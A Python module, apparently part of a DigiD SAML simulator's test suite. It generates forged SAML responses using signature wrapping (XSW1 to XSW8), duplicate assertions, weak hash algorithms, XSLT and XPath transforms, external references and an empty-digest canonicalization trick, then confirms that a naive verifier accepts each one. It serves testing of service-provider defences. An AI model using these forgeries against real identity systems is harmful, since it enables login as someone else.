"""What lasso says, made hostile where a valid signature is part of the trick: xmlsec1 makes each with DigiD's own key, as if DigiD signed
so foolishly, and before it is sent a naive verifier is shown to take it, one that asks no more than whether each signature holds. So
nothing is wrong with it but its trick. Used by idp.py; attacks.py says what must come of each.

Signature wrapping is numbered as in Somorovsky and others, *On Breaking SAML*, 2012, and in `src/simulator/digid/spoil.rs`.
"""

import base64
import hashlib
import re
import secrets
import xml.etree.ElementTree

from tricks import CANONICAL, ENVELOPED, NAMES, SIGNED, bare, run, sign, start, template

# Whom every forgery names.
VICTIM = "s00000000:999990019"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DECLARED = ' xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"'
DSIG, MORE = "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/04/xmldsig-more#"
XSLT = ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="@*|node()"><xsl:copy>'
        '<xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template></xsl:stylesheet></ds:Transform>')
XPATH = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>{}</ds:XPath></ds:Transform>'
# Libxmlsec decodes no text with other letters than those of base64: this leaves it the value of an inner signature, or nothing.
BASE64 = XPATH.format("parent::ds:SignatureValue") + f'<ds:Transform Algorithm="{DSIG}base64"/>'
# Signatures of another shape than DigiD's.
SHAPES = {
    "sha1": {"method": f"{DSIG}rsa-sha1", "digest": f"{DSIG}sha1"},
    "sha1-digest": {"digest": f"{DSIG}sha1"},
    "md5": {"method": f"{MORE}rsa-md5", "digest": f"{MORE}md5"},
    "xslt-transform": {"transforms": ENVELOPED + XSLT + CANONICAL},
    "xpath-transform": {"transforms": ENVELOPED + XPATH.format("true()") + CANONICAL},
    "base64-transform": {"transforms": ENVELOPED + BASE64},
    "commented-c14n": {"transforms": ENVELOPED + CANONICAL.replace('#"', '#WithComments"')},
    "two-references": {"references": 2},
    # By the outermost signature: what is in it is signed well.
    "empty-reference": {"uri": ""},
    # By the innermost.
    "external-reference": {"transforms": ""},
}
MESSAGES = "xsw1", "xsw2"
ASSERTIONS = "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8", "two-assertions"
# Not under "signed-anew", of tricks.py, which is their twin.
SPOILS = *SHAPES, "void-canonical", *MESSAGES, *ASSERTIONS
NOTHING = base64.b64encode(hashlib.sha256(b"").digest()).decode()


def element(text, at):
    """The element that begins there, with all that is in it."""
    name, depth = re.match(r"<([\w:]+)", text[at:])[1], 0
    for tag in re.finditer(rf"<(/?){name}\b[^>]*?(/?)>", text[at:]):
        depth += -1 if tag[1] else 0 if tag[2] else 1
        if depth == 0:
            return text[at:at + tag.end()]
    raise RuntimeError(f"{name} does not end: {text}")


def first(name, text):
    return element(text, re.search(rf"<(?:\w+:)?{name}[ >]", text).start())


def behind_issuer(name, text, inserted):
    at = start(name, text)[1]
    return text[:at] + inserted + text[at:]


def forged(text):
    """The same about the victim, with other IDs and without signatures."""
    text = re.sub(r"<ds:Signature .*?</ds:Signature>", "", text, flags=re.S)
    for own in re.findall(r'\bID="([^"]+)"', text):
        text = text.replace(f'"{own}"', f'"_{secrets.token_hex(16)}"')
    return re.sub(r"(<saml:NameID>)[^<]*", rf"\g<1>{VICTIM}", text)


class Spoiler:
    """One message, and xmlsec1 with DigiD's key, which lies in its folder."""

    def __init__(self, folder, text):
        self.folder, self.key = folder, ["--privkey-pem:digid", folder / "idp.key"]
        self.text = bare(text)[0]
        # Innermost first.
        self.names = [name for name in SIGNED if start(name, self.text)]

    def sign(self, name, **shape):
        self.text = sign(self.key, name, self.text, **shape)

    def take_apart(self, name):
        """Takes the signed element of that name out of the text: it with its signature, the signature, and it without."""
        self.sign(name)
        signed = first(name, self.text)
        signature = first("Signature", signed)
        return signed, signature, signed.replace(signature, "", 1)

    def shape(self, trick):
        for name in self.names:
            shape = SHAPES[trick]
            if trick == "empty-reference" and name != self.names[-1] or trick == "external-reference" and name != self.names[0]:
                shape = {}
            elif trick == "external-reference":
                elsewhere = self.folder / "elsewhere.txt"
                elsewhere.write_text("DigiD has signed this.\n")
                shape = shape | {"uri": elsewhere.as_uri()}
            self.sign(name, **shape)

    def void(self):
        """Each signature is made over nothing, as some canonicalize a relative namespace name (CVE-2025-66568); who is named matters
        no more. Libxmlsec does not, and yet makes the signature: of what stands in it, the enveloped transform leaves nothing. The
        object in which it stands is covered by nothing either, and does not come along."""
        inner = self.names[0]
        self.text = re.sub(rf"(<\w+:{inner}) ", r'\1 xmlns:x="x" ', self.text)
        self.text = re.sub(r"(<saml:NameID>)[^<]*", rf"\g<1>{VICTIM}", self.text)
        for name in self.names:
            own = start(name, self.text)[0]
            inside = f'<ds:Object><x ID="{own}"/></ds:Object></ds:Signature>'
            made = template(f"#{own}").replace("</ds:Signature>", inside)
            made = run("xmlsec1", "--sign", *self.key, "--id-attr:ID", "x", "/dev/stdin", text=made.encode()).decode()
            self.verify(made, 1, "--id-attr:ID", "x")
            if f"DigestValue>{NOTHING}<" not in made:
                raise RuntimeError(f"that is a signature over something: {made}")
            signature = re.sub(r"<ds:Object>.*</ds:Object>", "", first("Signature", made))
            self.text = behind_issuer(name, self.text, signature)

    def wrap_message(self, trick):
        """A forged message takes the place of the signed one, which its signature still finds by its ID."""
        for name in self.names[:-1]:
            self.sign(name)
        outer = self.names[-1]
        signed, signature, original = self.take_apart(outer)
        slot = {"xsw1": signature.replace("</ds:Signature>", f"{original}</ds:Signature>"), "xsw2": original + signature}
        self.text = self.text.replace(signed, behind_issuer(outer, forged(original), slot[trick]))

    def wrap_assertion(self, trick):
        """A forged Assertion takes the place of the signed one; the message around both is signed as it then is."""
        signed, signature, original = self.take_apart("Assertion")
        evil = forged(original)
        bears = lambda inside: behind_issuer("Assertion", evil, signature.replace("</ds:Signature>", f"{inside}</ds:Signature>"))
        if trick == "two-assertions":
            second = sign(self.key, "Assertion", f"<x{DECLARED}>{evil}</x>")
            self.text = self.text.replace(signed, signed + first("Assertion", second))
        elif trick == "xsw7":
            status = self.text.rindex("<samlp:Status>")
            self.text = f"{self.text[:status]}<samlp:Extensions>{evil}</samlp:Extensions>{self.text[status:]}"
        else:
            self.text = self.text.replace(signed, {
                "xsw3": evil + signed,
                "xsw4": evil.replace("</saml:Assertion>", f"{signed}</saml:Assertion>"),
                "xsw5": bears("") + original,
                "xsw6": bears(original),
                "xsw8": bears(f"<ds:Object>{original}</ds:Object>"),
            }[trick])
        self.text = sign(self.key, "ArtifactResponse", self.text)

    def verify(self, text, number, *more):
        """Xmlsec1 finds that this signature of the text holds, or this fails."""
        this = ["--node-xpath", f"(//*[local-name()='Signature'])[{number}]"]
        key = ["--pubkey-cert-pem:digid", self.folder / "idp.crt"]
        run("xmlsec1", "--verify", *key, *NAMES, *more, *this, "/dev/stdin", text=text.encode())

    def take_in(self):
        """Every signature holds, for xmlsec1, in the very text. But of one that holds what it covers libxmlsec takes that away with
        it: many others look for that by its ID first, and so it is put before xmlsec1 as they see it. Gives how many."""
        places = [found.start() for found in re.finditer("<ds:Signature ", self.text)]
        for number, at in enumerate(places, 1):
            signature = element(self.text, at)
            own = re.search(r'URI="#([^"]*)"', signature)
            covered = own and re.search(rf'<[\w:]+ [^>]*\bID="{own[1]}"', signature)
            if not covered:
                self.verify(self.text, number)
                continue
            original = element(signature, covered.start())
            signature = signature.replace(original, "").replace("<ds:Object></ds:Object>", "")
            name = re.match(r"<\w+:(\w+)", original)[1]
            self.verify(f"<x{DECLARED}>{behind_issuer(name, original, signature)}</x>", 1)
        return len(places)

    def who(self):
        """Whom somebody finds in it who looks for the first Assertion in the Response, or for the last."""
        message = xml.etree.ElementTree.fromstring(self.text.encode())[0][0]
        response = message.find(f"{SAMLP}Response")
        about = list(response.iter(f"{SAML}Assertion")) if response is not None else [message]
        return [one.find(f"{SAML}Subject/{SAML}NameID" if response is not None else f"{SAML}NameID").text for one in (about[0], about[-1])]


def spoilt(folder, text, trick, say):
    """The message, so spoilt; tells whom a naive verifier takes it to be about."""
    made = Spoiler(folder, text)
    if trick in SHAPES:
        made.shape(trick)
    elif trick == "void-canonical":
        made.void()
    elif trick in MESSAGES:
        made.wrap_message(trick)
    else:
        made.wrap_assertion(trick)
    # What is void nobody but the bare signature shows to be so.
    held = len(made.names) if trick == "void-canonical" else made.take_in()
    deceived = VICTIM in made.who()
    if deceived != (trick not in SHAPES):
        raise RuntimeError(f"{trick} is about {made.who()}: {made.text}")
    say(f"{trick}: naively accepted, with {held} signatures that hold")
    return made.text
